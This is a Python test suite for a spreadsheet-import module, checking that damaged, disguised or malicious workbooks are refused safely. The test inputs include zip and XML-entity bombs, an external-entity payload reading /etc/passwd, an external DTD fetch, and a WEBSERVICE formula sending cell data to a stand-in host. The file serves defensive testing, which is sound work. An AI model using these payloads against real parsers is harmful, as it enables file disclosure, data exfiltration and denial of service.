"""Workbooks made to do harm, or that are none: each ends in a sentence, within bounds, and nothing is read of it."""

import io
import resource
import subprocess
import zipfile

import pytest

from ripeline.capture.files import workbooks
from ripeline.capture.files.dialect import UnreadableFileError
from ripeline.capture.files.workbooks import as_table
from tests.capture.sheets import bare, endless, inline, sheet, sheet_of, workbook, zipped

MEGABYTE = 1024**2
SMALL = {"AS": 400 * MEGABYTE, "CPU": 20, "FSIZE": 64 * MEGABYTE, "UNPACKED": 512 * MEGABYTE}


def refusal(content: bytes, name: str = "leads.xlsx") -> str:
    with pytest.raises(UnreadableFileError) as refused, as_table(io.BytesIO(content), name=name):
        pass
    sentence = str(refused.value)
    assert sentence.startswith(name)
    assert sentence.endswith(".")
    return sentence


@pytest.fixture
def tight(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(workbooks, "LIMITS", SMALL)


LAST = 1_048_576  # row of a sheet
GOOD = workbook([("Name", "E-mail"), ("A", "a@x.example")])
ODT = b"application/vnd.oasis.opendocument.text"
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600


@pytest.mark.parametrize(
    ("content", "said"),
    [
        (OLE + "EncryptedPackage".encode("utf-16-le"), "protected by a password"),
        (OLE + "WordDocument".encode("utf-16-le"), "a Word document"),
        (OLE, "damaged"),
        (zipped({"[Content_Types].xml": b"<a/>", "word/document.xml": b"<a/>"}), "a Word document"),
        (zipped({"ppt/presentation.xml": b"<a/>"}), "an office document"),
        (zipped({"mimetype": ODT, "content.xml": b"<a/>"}), "an office document"),
        (zipped({"Index/Document.iwa": b"x"}), "a Numbers document"),
        (zipped({"readme.pdf": b"%PDF"}), "a ZIP archive without a file of rows"),
        (zipped({"a.csv": b"a,b", "b.csv": b"a,b"}), "a ZIP archive of several files"),
        (zipped({"Index.zip": b"x", "preview.jpg": b"x"}), "a Numbers document"),
        (zipped({"inner.zip": zipped({"inner.zip": zipped({"a": b" " * 10_000})})}), "a ZIP archive"),
        (zipped({"[Content_Types].xml": b"<a/>", "xl/workbook.xml": b"<workbook"}), "damaged"),
        (GOOD[: len(GOOD) // 2], "damaged"),
        (GOOD[:-30], "damaged"),
        (b"PK\x03\x04" + bytes(2000), "damaged"),
        (bare(b"<worksheet><sheetData><row><c t='s'><v>9</v></c></row></sheetData></worksheet>"), "damaged"),
    ],
    ids=[
        "password", "doc", "xls of nothing", "docx", "pptx", "odt", "numbers", "zip",
        "zip of several", "older numbers", "zip in zip", "cut xml", "half",
        "no end", "zeros", "no such string",
    ],
)  # fmt: skip
def test_what_is_no_workbook_is_called_what_it_is(content: bytes, said: str) -> None:
    assert said in refusal(content)


def test_an_encrypted_archive_asks_for_its_password() -> None:
    content = bytearray(GOOD)
    with zipfile.ZipFile(io.BytesIO(GOOD)) as archive:
        names = [part.filename.encode() for part in archive.infolist()]
    at = content.rindex(b"PK\x01\x02", 0, content.rindex(names[0]))
    content[at + 8] |= 1
    assert "protected by a password" in refusal(bytes(content))


@pytest.mark.usefixtures("tight")
def test_what_says_that_it_is_huge_is_refused_before_it_is_unpacked() -> None:
    assert "takes too much room" in refusal(endless("xl/workbook.xml", MEGABYTE, says=600 * MEGABYTE))


@pytest.mark.usefixtures("tight")
def test_what_is_larger_than_it_says_is_refused_where_it_is_larger() -> None:
    assert "damaged" in refusal(endless("xl/workbook.xml", 60 * MEGABYTE, says=2000))


def test_many_parts_are_no_workbook() -> None:
    assert "takes too much room" in refusal(zipped({f"xl/{n}.xml": b"" for n in range(5_001)}))


@pytest.mark.parametrize(
    "head",
    [
        '<!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;">]>',
        '<!DOCTYPE x [<!ENTITY file SYSTEM "file:///etc/passwd">]>',
        '<!DOCTYPE x SYSTEM "https://elsewhere.example/x.dtd">',
    ],
)
def test_definitions_inside_are_refused_and_nothing_is_fetched(head: str) -> None:
    assert "has definitions (a DTD)" in refusal(bare(sheet(inline("A1", "&lol2;"), head=head)))


@pytest.mark.usefixtures("tight")
def test_a_sheet_that_asks_for_all_memory_is_refused_and_harms_nobody() -> None:
    far = sheet(inline("A1", "Name"), '<c r="XFD1048576"><v>1</v></c>')
    assert "takes too much room" in refusal(bare(far))
    assert resource.getrlimit(resource.RLIMIT_AS)[0] == resource.RLIM_INFINITY, "only the other process was limited"


@pytest.mark.usefixtures("tight")
def test_the_last_row_that_a_sheet_can_have_is_read_within_the_memory_of_a_small_one() -> None:
    rows = {1: inline("A1", "Name"), 2: inline("A2", "Ann"), LAST: inline(f"A{LAST}", "Zoe")}
    with as_table(io.BytesIO(bare(sheet_of(rows))), name="leads.xlsx") as table:
        lines = table.file.read().splitlines()
    assert (len(lines), lines[:2], lines[-1]) == (LAST, [b"Name", b"Ann"], b"Zoe")
    assert table.sheets[0].rows == 3


@pytest.mark.usefixtures("tight")
def test_strings_that_unpack_to_all_memory_are_refused() -> None:
    """A thousand small files' worth of the same letters, told once in the table and asked for in every cell."""
    shared = b"<sst><si><t>" + b"x" * (16 * MEGABYTE) + b"</t></si></sst>"
    cells = "".join(f'<c r="A{n}" t="s"><v>0</v></c>' for n in range(1, 300))
    assert "takes too much room" in refusal(bare(sheet(cells), shared=shared))


@pytest.mark.usefixtures("tight")
def test_what_never_ends_is_ended(monkeypatch: pytest.MonkeyPatch) -> None:
    began = []
    popen = subprocess.Popen

    def started(command: list[str], **how: object) -> object:
        process = popen([command[0], "-c", "while True: pass"], stdout=subprocess.DEVNULL)
        began.append(process)
        return process

    monkeypatch.setattr(workbooks.subprocess, "Popen", started)
    monkeypatch.setattr(workbooks, "PATIENCE", 0.3)
    assert "takes too much room or time" in refusal(GOOD)
    assert began[0].poll() is not None


def test_macros_links_and_formulas_are_not_followed() -> None:
    """Only cells are read, with what they showed last; the rest is not even opened."""
    cells = inline("A1", "Name"), '<c r="B1" t="str"><f>WEBSERVICE("https://x.example/"&amp;A1)</f><v>cached</v></c>'
    macro = {"xl/vbaProject.bin": b"\0" * 100, "xl/externalLinks/externalLink1.xml": b"<externalLink/>"}
    with as_table(io.BytesIO(bare(sheet(*cells), **macro)), name="leads.xlsm") as table:
        assert table.file.read() == b"Name,cached\n"


def test_a_cell_longer_than_excel_can_hold_is_refused_as_made_to_do_harm() -> None:
    fits, too_long = (bare(sheet(inline("A1", "A" * length))) for length in (32_767, 32_768))
    with as_table(io.BytesIO(fits), name="leads.xlsx") as table:
        assert table.sheets[0].rows == 1
    assert "a cell of more than 32,767 characters" in refusal(too_long)
    assert "made to do harm" in refusal(too_long)


def test_a_small_workbook_that_unpacks_to_one_cell_of_megabytes_is_refused() -> None:
    content = bare(sheet_of({1: inline("A1", "Email"), 2: inline("A2", "A" * 150 * MEGABYTE)}))
    assert len(content) < MEGABYTE
    assert "more than 32,767 characters" in refusal(content)
